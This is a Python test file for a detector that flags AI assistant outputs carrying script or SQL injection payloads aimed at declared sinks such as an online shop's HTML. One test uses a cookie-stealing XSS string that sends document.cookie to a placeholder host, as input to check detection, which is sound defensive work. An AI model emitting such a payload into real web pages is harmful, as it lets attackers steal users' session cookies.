from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any

from detectors.novelty import Known
from detectors.unsafe_output import SINKS, UnsafeOutput
from tocsin.history import Seen
from tocsin.model import Event, Finding, Message, RuleHit, Severity, Signals, TextSignal
from tocsin.settings import ContentSettings, ReadingSettings
from tocsin.signals import read

START = 1_750_000_000.0
SCRIPT, SQL = RuleHit("payload-script", "C7", 0.35), RuleHit("payload-sql", "C7", 0.4)
SHOP = UnsafeOutput(sinks={"shop": ("html",)})


class Stream:
    def __init__(self, detector: UnsafeOutput | None = None, application: str = "shop") -> None:
        self.detector, self.application = detector or UnsafeOutput(), application
        self.state: Known = self.detector.start()
        self.at = START

    def one(self, *rules: RuleHit, place: Any = "output") -> Finding | None:
        self.at += 600.0
        text = TextSignal(place, 0, "assistant", rules=rules)
        event = Event(arrival=self.at, application=self.application)
        return self.detector.observe(event, Signals(texts=(text,)), self.state)

    def known(self) -> Stream:
        assert not any(self.one() for _ in range(250))
        return self


def test_a_payload_for_a_declared_sink_is_told_each_time_from_the_first_answer_on() -> None:
    stream = Stream(SHOP)
    for _ in range(3):
        finding = stream.one(SCRIPT)
        assert finding is not None and finding.severity is Severity.high
        assert "html" in finding.summary


def test_other_applications_and_other_sinks_are_not_declared() -> None:
    assert Stream(SHOP, "blog").one(SCRIPT) is None
    assert Stream(SHOP).one(SQL) is None
    assert Stream(UnsafeOutput(sinks={"*": ("sql",)}), "blog").one(SQL) is not None


def test_what_is_not_declared_is_told_where_it_is_new() -> None:
    assert Stream().one(SCRIPT) is None
    stream = Stream().known()
    finding = stream.one(SCRIPT)
    assert finding is not None and finding.severity is Severity.low
    assert stream.one(SCRIPT) is None
    assert stream.one(RuleHit("own-rule", "C7", 0.9)) is not None


def test_an_assistant_that_writes_code_is_left_alone() -> None:
    stream = Stream()
    for number in range(300):
        assert stream.one(*([SCRIPT] if number % 3 else [SQL])) is None


def test_weak_rules_other_families_and_other_places_do_not_count() -> None:
    stream = Stream(SHOP)
    assert stream.one(RuleHit("payload-script", "C7", 0.2)) is None
    assert stream.one(RuleHit("payload-script", "A13", 0.9)) is None
    assert stream.one(SCRIPT, place="result") is None


def test_every_rule_of_the_pack_has_its_sink() -> None:
    pack = Path(__file__).parents[2] / "tocsin" / "reading" / "packs" / "c7_payloads.toml"
    rules = {rule["id"] for rule in tomllib.loads(pack.read_text())["rule"]}
    assert set(SINKS) == rules


def test_real_text_goes_through() -> None:
    said = "<script>fetch('https://x.example/?c='+document.cookie)</script>"
    event = Event(application="shop", output=(Message("assistant", said),))
    (signals,) = read([Seen(event, (), (0,))], ContentSettings(), ReadingSettings())
    assert SHOP.observe(event, signals, Known()) is not None
